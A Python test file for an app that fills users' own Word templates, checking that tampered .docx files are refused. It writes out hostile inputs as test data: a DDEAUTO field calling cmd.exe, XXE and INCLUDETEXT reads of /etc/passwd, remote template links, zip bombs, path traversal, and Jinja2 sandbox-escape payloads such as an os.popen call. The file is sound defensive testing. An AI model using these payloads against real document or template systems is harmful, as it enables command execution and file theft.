"""A Word template from anybody's computer: nothing in it runs, fetches, hides, or drops a doubt."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jinja2.exceptions import TemplateError

from geo_app.errors import InputError, TooLargeError
from geo_app.reports.paper import word
from geo_app.reports.paper.content import Paper
from geo_app.reports.paper.placeholders import Placeholders
from geo_app.reports.paper.template import examine, packed, shipped
from geo_app.settings import Papers
from geo_app.work.desk import Desk
from tests.papers import Filed, filed

MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
SETTINGS = "word/settings.xml"
Members = dict[str, bytes]
Change = Callable[[Members], object]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Filed]:
    with filed(tmp_path_factory.mktemp("template"), photos=False) as found:
        yield found


@pytest.fixture(scope="module")
def paper(made: Filed) -> Paper:
    return made.paper()


def members() -> Members:
    with zipfile.ZipFile(io.BytesIO(shipped())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(*changes: Change) -> bytes:
    found = members()
    for change in changes:
        change(found)
    return packed(found)


def put(name: str, data: bytes = b"x") -> Change:
    return lambda found: found.__setitem__(name, data)


def swap(name: str, old: str, new: str) -> Change:
    """One place of one member, which must be there."""

    def change(found: Members) -> None:
        text = found[name].decode()
        assert old in text
        found[name] = text.replace(old, new, 1).encode()

    return change


def inside(xml: str) -> Change:
    """Something more at the end of the body."""
    return swap(MAIN, "<w:sectPr>", f"{xml}<w:sectPr>")


def filled(data: bytes, made: Filed, paper: Paper, folder: Path, **limits: int) -> bytes:
    file = folder / "own.docx"
    file.write_bytes(data)
    settings = replace(made.desk.settings, papers=Papers(template=str(file), **limits))
    desk: Desk = replace(made.desk, settings=settings)
    return word.write(paper, desk)


def typed(words: str) -> Change:
    return inside(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")


def link(kind: str, target: str) -> Change:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    told = (
        f'<Relationship Id="rId9" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    return swap(RELS, "</Relationships>", f"{told}</Relationships>")


def field(words: str) -> str:
    """A field whose words stand in two runs, as Word writes it."""
    run_of = "<w:r><w:instrText>{}</w:instrText></w:r>"
    middle = len(words) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{run_of.format(words[:middle])}{run_of.format(words[middle:])}"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


RUNNING: dict[str, tuple[Change, str]] = {
    "macros": (put("word/vbaProject.bin"), "宏"),
    "macro type": (swap(TYPES, "document.main+xml", "document.macroEnabled.main+xml"), "不含宏"),
    "word template": (swap(TYPES, "document.main+xml", "template.main+xml"), "不含宏"),
    "ribbon": (put("customUI/customUI14.xml", b"<x/>"), "宏"),
    "activex": (put("word/activeX/activeX1.xml", b"<x/>"), "宏"),
    "ole": (put("word/embeddings/oleObject1.bin"), "嵌入"),
    "sheet inside": (put("word/embeddings/a.xlsx"), "嵌入"),
    "program inside": (put("word/media/a.exe"), "嵌入"),
    "page inside": (inside('<w:altChunk r:id="rId1"/>'), "嵌入"),
    "object": (inside("<w:p><w:r><w:object/></w:r></w:p>"), "嵌入"),
    "far template": (link("attachedTemplate", "http://192.0.2.1/x.dotm"), "192.0.2.1"),
    "far picture": (link("image", "\\\\192.0.2.1\\share\\x.png"), "192.0.2.1"),
    "far frame": (link("frame", "file:///etc/passwd"), "/etc/passwd"),
    "dde": (inside(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), "DDEAUTO"),
    "other file": (inside(field(' INCLUDETEXT "/etc/passwd" ')), "INCLUDETEXT"),
    "other picture": (
        inside('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://192.0.2.1/x "/></w:p>'),
        "INCLUDEPICTURE",
    ),
    "field out of a value": (inside(field(" {{ name }} ")), "{{ name }}"),
    "field without end": (
        inside(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/>'
            "<w:instrText> LINK x </w:instrText></w:r></w:p>"
        ),
        "LINK",
    ),
    "letters": (swap(SETTINGS, "<w:zoom", "<w:mailMerge/><w:zoom"), "链接"),
    "hidden": (inside("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"), "隐藏"),
    "hidden by style": (
        swap("word/styles.xml", '<w:style w:type="paragraph" w:styleId="Doubt">',
             '<w:style w:type="paragraph" w:styleId="Doubt"><w:rPr><w:vanish/></w:rPr>'),
        "隐藏",
    ),
    "struck out": (inside("<w:p><w:del><w:r><w:delText>x</w:delText></w:r></w:del></w:p>"), "修订"),
    "entities": (
        put(SETTINGS, b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'), "DTD",
    ),
    "disguised": (
        swap(TYPES, "</Types>",
             '<Override PartName="/word/media/a.png" ContentType="application/x+xml"/></Types>'),
        "不含宏",
    ),
    "way out": (put("../x.xml", b"<x/>"), "../x.xml"),
    "no document": (lambda found: found.pop(MAIN), "不含宏"),
    "broken xml": (put(SETTINGS, b"<x>"), "损坏"),
}  # fmt: skip


@pytest.mark.parametrize("name", RUNNING)
def test_what_runs_fetches_embeds_or_hides_is_refused(
    name: str, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    change, said = RUNNING[name]
    with pytest.raises(InputError) as refused:
        filled(changed(change), made, paper, tmp_path)
    assert said in refused.value.text("zh")
    assert "own.docx" in refused.value.text("en")


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"%PDF-1.7", shipped()[:-40], packed({"a": b""})]
)
def test_what_is_no_word_file_is_refused(
    data: bytes, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    with pytest.raises(InputError):
        filled(data, made, paper, tmp_path)


def test_bombs_are_refused(made: Filed, paper: Paper, tmp_path: Path) -> None:
    zeros = changed(put("word/media/a.png", bytes(20_000_000)))
    many = changed(*(put(f"word/media/{n}.png") for n in range(300)))
    large = changed(put("word/media/a.png", bytes(range(256)) * 200_000))
    grown = changed(inside("{% for d in doubts %}" + "<w:p/>" * 400_000 + "{% endfor %}"))
    for data in (zeros, many, large):
        with pytest.raises(TooLargeError):
            filled(data, made, paper, tmp_path)
    with pytest.raises(TooLargeError):
        filled(grown, made, paper, tmp_path, docx_characters=1_000_000)
    with pytest.raises(TooLargeError):
        filled(shipped(), made, paper, tmp_path, template_bytes=1_000)


ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ name.__class__ }}",
    "{{ l.__init__.__globals__ }}",
    "{{ qr.tpl }}",
    "{{ qr._words }}",
    "{{ loop }}{{ self }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum() }}{{ range(9) }}",
    "{{ name.upper() }}",
    "{{ l.items() }}",
    "{{ l.items }}",
    "{{ name|attr('__class__') }}",
    "{{ name|map('upper')|list }}",
    "{{ name|safe }}",
    "{{ name|length(1) }}",
    "{{ 9**9**9 }}",
    "{{ 'x' * 999999999 }}",
    "{{ name ~ name }}",
    "{{ (1,) }}{{ [1] }}{{ {1: 2} }}",
    "{{ name if 1 }}",
    "{{ states[0:2] }}",
    "{% set x = name %}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{% macro m() %}{% endmacro %}",
    "{% call x() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}",
    "{% for a in doubts %}{% for b in doubts %}{% endfor %}{% endfor %}",
    "{% for a in doubts recursive %}{% endfor %}",
    "{% for a, b in basics %}{% endfor %}",
    "{% for a in doubts if a %}{% endfor %}",
    "{% raw %}{{ name }}",
    "{{ name",
    "{% if %}",
    "{{ no_such_value }}",
    "{{ l.no_such_label }}",
    "{{ states[7] }}",
    "{% for x in name.y %}{% endfor %}",
)


@pytest.mark.parametrize("words", ESCAPES)
def test_no_way_leads_out_of_the_placeholders(
    words: str, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    with pytest.raises(InputError) as refused:
        filled(changed(typed(words)), made, paper, tmp_path)
    assert refused.value.code in ("paper.template_words", "paper.template_unknown")


@given(st.text(alphabet="{}%#_.()[]|'\"~*-+=, abdfilnors01", max_size=60))
def test_nothing_that_is_typed_into_a_template_runs(words: str) -> None:
    try:
        shown = (
            Placeholders()
            .from_string("{{ " + words + " }}")
            .render(d=["a"], a={"b": "1"}, l={"r": "s"})
        )
    except TemplateError:
        return
    assert "0x" not in shown
    assert "<built" not in shown
    assert "object" not in shown


LOOP = "{%p for d in doubts %}"
PLACE = "{{ loop.index }}. {{ d }}"
LEFT_OUT: dict[str, Change] = {
    "no loop": swap(MAIN, LOOP, "{%p for d in basics %}"),
    "on a condition": lambda found: (
        swap(MAIN, LOOP, "{%p if finding %}{%p endif %}" + LOOP)(found),
        found.__setitem__(MAIN, found[MAIN].replace(
            b"{%p if finding %}{%p endif %}{%p for d in doubts %}",
            b"{% if photos %}{% for d in doubts %}{{ d }}{% endfor %}{% endif %}"
            b"{%p for d in basics %}",
        )),
    ),
    "only counted": swap(MAIN, PLACE, "{{ loop.index }}."),
    "in a comment": lambda found: (
        swap(MAIN, LOOP, "{%p for d in basics %}")(found),
        inside("<!-- {% for d in doubts %}{{ d }}{% endfor %} -->")(found),
    ),
    "in words for the blind": lambda found: (
        swap(MAIN, LOOP, "{%p for d in basics %}")(found),
        inside('<w:p w:rsidR="{% for d in doubts %}{{ d }}{% endfor %}"/>')(found),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", LEFT_OUT)
def test_a_template_that_leaves_doubts_out_gives_no_paper(
    name: str, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    assert paper.told["doubts"]
    with pytest.raises(InputError) as refused:
        filled(changed(LEFT_OUT[name]), made, paper, tmp_path)
    assert refused.value.code == "paper.template_doubts"
    assert "{%p for d in doubts %}" in refused.value.text("zh")


DOUBT = (
    f'<w:pPr><w:pStyle w:val="Doubt"/></w:pPr><w:r><w:t xml:space="preserve">{PLACE}</w:t></w:r>'
)


def drawn(run: str = "", paragraph: str = "") -> Change:
    """The doubts of the paper look otherwise."""
    swapped = DOUBT.replace("<w:r>", f"<w:r><w:rPr>{run}</w:rPr>").replace(
        '<w:pStyle w:val="Doubt"/>', f'<w:pStyle w:val="Doubt"/>{paragraph}'
    )
    return swap(MAIN, DOUBT, swapped)


def styled(look: str) -> Change:
    """A style of characters that the doubts have, which stands on another one."""

    def change(found: Members) -> None:
        below = f'<w:style w:type="character" w:styleId="Low"><w:rPr>{look}</w:rPr></w:style>'
        above = '<w:style w:type="character" w:styleId="High"><w:basedOn w:val="Low"/></w:style>'
        swap("word/styles.xml", "</w:styles>", f"{below}{above}</w:styles>")(found)
        drawn('<w:rStyle w:val="High"/>')(found)

    return change


WHITE, DARK = '<w:color w:val="FFFFFF"/>', '<w:shd w:val="clear" w:fill="1F2A30"/>'
THEME = '<w:color w:themeColor="background1" w:val="000000"/>'
UNSEEN: dict[str, Change] = {
    "white": drawn(WHITE),
    "next to white": drawn('<w:color w:val="F4F2EE"/>'),
    "white by theme": drawn(THEME),
    "white by style": styled(WHITE),
    "white for all": swap("word/styles.xml", '<w:sz w:val="21"/>', f'<w:sz w:val="21"/>{WHITE}'),
    "dark on dark": drawn('<w:color w:val="20282C"/>', DARK),
    "black on black": drawn("", '<w:shd w:val="clear" w:fill="000000"/>'),
    "tiny": drawn('<w:sz w:val="2"/>'),
    "tiny by style": styled('<w:sz w:val="3"/>'),
}


@pytest.mark.parametrize("name", UNSEEN)
def test_a_template_that_nobody_can_read_the_doubts_of_gives_no_paper(
    name: str, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    with pytest.raises(InputError) as refused:
        filled(changed(UNSEEN[name]), made, paper, tmp_path)
    assert refused.value.code == "paper.template_doubts"


SEEN: dict[str, Change] = {
    "white on dark": drawn(WHITE, DARK),
    "white on dark words": drawn(WHITE + DARK),
    "as Word chooses": drawn('<w:color w:val="auto"/>', DARK),
    "red": drawn('<w:color w:val="9B1C1C"/>'),
    "small": drawn('<w:sz w:val="12"/>'),
    "the mark at the end of a paragraph": drawn("", f'<w:rPr>{WHITE}<w:sz w:val="2"/></w:rPr>'),
    "by style": styled('<w:color w:val="355C6B"/>'),
    "white in a table whose style may be dark": lambda found: (
        swap(
            "word/styles.xml",
            '<w:name w:val="Table Grid"/><w:basedOn w:val="TableNormal"/>',
            f'<w:name w:val="Table Grid"/><w:tcPr>{DARK}</w:tcPr>',
        )(found),
        drawn(WHITE)(found),
    ),
}


@pytest.mark.parametrize("name", SEEN)
def test_a_template_may_look_as_it_likes(
    name: str, made: Filed, paper: Paper, tmp_path: Path
) -> None:
    assert filled(changed(SEEN[name]), made, paper, tmp_path)


def test_styles_that_stand_on_each_other_have_an_end(
    made: Filed, paper: Paper, tmp_path: Path
) -> None:
    circle = "".join(
        f'<w:style w:type="character" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("High", "Low"), ("Low", "High"))
    )
    data = changed(
        swap("word/styles.xml", "</w:styles>", f"{circle}</w:styles>"),
        drawn('<w:rStyle w:val="High"/>'),
    )
    assert filled(data, made, paper, tmp_path)


def test_a_template_that_shows_the_claim_alone_gives_no_paper(
    made: Filed, paper: Paper, tmp_path: Path
) -> None:
    silent = changed(swap(MAIN, "{{ states[1][1] }}", ""))
    with pytest.raises(InputError, match="核查") as refused:
        filled(silent, made, paper, tmp_path)
    assert refused.value.code == "paper.template_answer"


def test_ours_is_in_order() -> None:
    examine(shipped(), "paper.docx", Papers())
